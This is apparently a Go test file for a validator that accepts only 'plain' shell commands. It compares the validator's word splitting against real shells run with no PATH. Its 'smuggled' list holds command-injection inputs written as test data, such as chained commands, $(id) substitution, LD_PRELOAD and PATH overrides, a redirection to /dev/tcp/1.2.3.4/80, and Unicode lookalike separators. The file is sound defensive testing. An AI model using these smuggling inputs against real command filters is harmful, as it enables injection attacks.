//go:build unix

package command

import (
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"
)

// words has a real shell split a command. It can start nothing: the words are
// arguments of the shell's own printf, and there is no PATH.
func words(t *testing.T, shell, command string) []string {
	t.Helper()
	cmd := exec.Command(shell, "-c", `printf '%s\0' `+command)
	cmd.Dir = t.TempDir()
	cmd.Env = []string{"PATH=/nonexistent", "LC_ALL=C.UTF-8"}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s does not read %q: %v: %s", shell, command, err, out)
	}
	return strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
}

func shells() []string {
	all := []string{"/bin/sh"}
	if _, err := os.Stat("/bin/bash"); err == nil {
		all = append(all, "/bin/bash")
	}
	return all
}

var splittings = []string{
	`ls`, "ls\t-l", `  ls  -l  `, `cat 'a b' "c d" e\ f`, `cat ''`, `cat "" '' x`, `cat a'b'"c"\d`, `cat "a\"b\\c\d"`, `cat 'a\'`,
	`cat a=b`, `ls --sort=size`, `cat -- -n`, `cat \'`, `cat \"`, `cat \\`, `cat "it's"`, `cat '"'`, `cat a\;b`, `cat '$HOME'`, `cat '*'`,
	`cat é`, `cat 漢字`, `cat e` + "\u0301", `cat \a\b`, `cat "a"''"b"`, `cat ';' '|' '&' '#'`, `cat "#" "~" "*"`, `cat a,b:c@d%e+f_g/h.i-j`,
	`cat %s %d \%n`, `cat \ `, `cat "\\"`, `cat "\'"`, `cat \$HOME`, `''`, `-n`, `cat "a = b"`,
}

// FuzzSplit: what is plain here, a shell splits into the same words.
func FuzzSplit(f *testing.F) {
	for _, s := range splittings {
		f.Add(s)
	}
	for _, s := range smuggled {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, command string) {
		got, ok := split(command)
		if !ok {
			return
		}
		for _, sh := range shells() {
			if want := words(t, sh, command); !slices.Equal(got, want) {
				t.Fatalf("%q: split into %q, %s into %q", command, got, sh, want)
			}
		}
	})
}

func TestPlainCommandsAreSplitAsAShellDoes(t *testing.T) {
	for _, s := range splittings {
		if _, ok := split(s); !ok {
			t.Errorf("%q is not plain", s)
		}
	}
}

// smuggled are commands that do more than they seem to, or might in some shell.
var smuggled = []string{
	"", " ", "\t", "ls\n", "ls\nid", "ls\r", "ls\rid", "ls\x00", "ls;id", "ls ; id", "ls&id", "ls&&id", "ls||id", "ls|id", "ls |& id", "ls &",
	"cat `id`", "cat $(id)", "cat $HOME", "cat ${HOME}", `cat "$HOME"`, "cat \"`id`\"", `cat "$(id)"`, `cat "\$HOME"`, "cat \"\\`id\\`\"", "cat $'a'", `cat $"a"`,
	"cat <f", "cat >f", "cat >>f", "cat <<x", "cat <(id)", "cat >(id)", "cat 2>f", "cat f>/dev/tcp/1.2.3.4/80", "(ls)", "{ ls; }", "ls {a,b}", "ls {1..9}",
	"ls *", "ls ?", "ls [a-z]", "ls ~", "ls ~root", "ls a:~", "ls # x", "ls #x", "ls !1", "!!", "! ls", `ls "!1"`, "ls ^a", "^a^b", "a=b ls", "PATH=. ls", "LD_PRELOAD=./x ls",
	"a=b", "'a=b' ls", `"a"=b ls`, "ls =id", "=ls", "ls 'a", `ls "a`, `ls a\`, "ls \\\n-l", "ls \"a\nb\"", "ls 'a\nb'", `ls "a\`,
	"ls\u00a0-l", "ls\u2003-l", "ls\u3000-l", "ls\u200b", "\u200bls", "ls \u202ea", "ls\ufeff", "ls\u2028id", "ls\u0085id", "ls\v-l", "ls\f-l", "ls \x1b[A", "ls \x7f", "ls \x08",
	"ls \xff", "ls a\xc3", "ls\uff1bid", "ls \uff5c id", "cat \uff04HOME", "ls \ufe0f", "ls \u3164", "ls \u115f", "ls\u2800x", "ls \u2014l", "ls \u2019a\u2019",
	"cat " + strings.Repeat("a", maxLength), strings.Repeat("ls ", maxWords+2),
}

func TestSmuggledCommandsAreNotPlain(t *testing.T) {
	for _, s := range smuggled {
		if got, ok := split(s); ok {
			t.Errorf("%q is plain: %q", s, got)
		}
	}
}
